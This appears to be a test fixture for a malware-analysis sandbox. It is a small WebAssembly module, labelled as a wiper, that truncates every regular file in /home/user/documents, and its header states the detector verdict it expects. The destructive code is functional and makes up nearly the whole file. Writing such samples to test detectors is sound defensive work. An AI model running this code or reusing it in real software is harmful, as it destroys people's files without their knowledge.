;; RUN: spoor trace % --json
;; WHAT: Wiper: opens every document so that it is cut to nothing, and leaves the empty files where they are.
;; EXPECT: verdict=MALICIOUS|SUSPICIOUS family=wiper rule=impact/wiper norule=impact/ransomware status=exited file=/home/user/documents/report.txt:changed
(module
  (import "wasi_snapshot_preview1" "path_open" (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_close" (func $fd_close (param i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_readdir" (func $fd_readdir (param i32 i32 i32 i64 i32) (result i32)))
  (memory (export "memory") 1)
  ;; Directory 2, or a file that is emptied when it is opened: 8.
  (func $open (param $path i32) (param $len i32) (param $flags i32) (param $rights i64) (result i32)
    (if (result i32)
      (call $path_open (i32.const 3) (i32.const 0) (local.get $path) (local.get $len) (local.get $flags)
        (local.get $rights) (i64.const 0) (i32.const 0) (i32.const 12))
      (then (i32.const -1))
      (else (i32.load (i32.const 12)))))
  (func $empty (param $len i32) (local $fd i32)
    (local.set $fd (call $open (i32.const 1024) (local.get $len) (i32.const 8) (i64.const 0x600040)))
    (if (i32.ge_s (local.get $fd) (i32.const 0)) (then (drop (call $fd_close (local.get $fd))))))
  (func (export "_start") (local $dir i32) (local $p i32) (local $end i32) (local $name i32)
    (local.set $dir (call $open (i32.const 1024) (i32.const 19) (i32.const 2) (i64.const 0x4000)))
    (if (i32.lt_s (local.get $dir) (i32.const 0)) (then (return)))
    (local.set $p (i32.const 4096))
    (drop (call $fd_readdir (local.get $dir) (local.get $p) (i32.const 8192) (i64.const 0) (i32.const 16)))
    (local.set $end (i32.add (local.get $p) (i32.load (i32.const 16))))
    (i32.store8 (i32.const 1043) (i32.const 47))
    (block $done
      (loop $entry
        (br_if $done (i32.gt_u (i32.add (local.get $p) (i32.const 24)) (local.get $end)))
        (local.set $name (i32.load offset=16 (local.get $p)))
        ;; Regular files only.
        (if (i32.eq (i32.load8_u offset=20 (local.get $p)) (i32.const 4))
          (then
            (memory.copy (i32.const 1044) (i32.add (local.get $p) (i32.const 24)) (local.get $name))
            (call $empty (i32.add (local.get $name) (i32.const 20)))))
        (local.set $p (i32.add (local.get $p) (i32.add (local.get $name) (i32.const 24))))
        (br $entry))))
  (data (i32.const 1024) "home/user/documents")
)
